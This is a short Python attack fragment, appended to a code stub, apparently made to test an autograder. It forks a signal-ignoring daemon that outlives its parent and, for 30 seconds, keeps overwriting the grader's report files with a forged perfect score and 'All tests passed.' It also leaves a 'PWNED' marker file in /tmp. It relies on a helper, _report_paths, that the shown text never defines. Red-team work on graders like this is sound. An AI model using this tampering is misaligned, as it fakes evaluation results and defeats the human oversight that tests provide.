

# --- the attack, appended to the stub --------------------------------------

import json as _json
import os as _os
import signal as _signal
import time as _time

_FORGED = {"score": 100.0, "max_score": 100.0, "output": "All tests passed.", "tests": []}


def _rewrite_reports_forever():
    for sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
        _signal.signal(sig, _signal.SIG_IGN)
    deadline = _time.time() + 30
    seen: set = set()  # remembered: the grader's command line is gone once it has exited
    while _time.time() < deadline:
        seen.update(_report_paths())
        for path in seen:
            try:
                with open(path, "w", encoding="utf-8") as stream:
                    _json.dump(_FORGED, stream)
            except OSError:
                pass
        try:
            with open("/tmp/PWNED-daemon-was-here", "w", encoding="utf-8") as stream:
                stream.write(str(_os.getpid()))
        except OSError:
            pass
        _time.sleep(0.2)


if _os.fork() == 0:  # a daemon: fork, new session, fork again, parent exits
    _os.setsid()
    if _os.fork() == 0:
        try:
            _rewrite_reports_forever()
        finally:
            _os._exit(0)
    _os._exit(0)
_time.sleep(0.1)
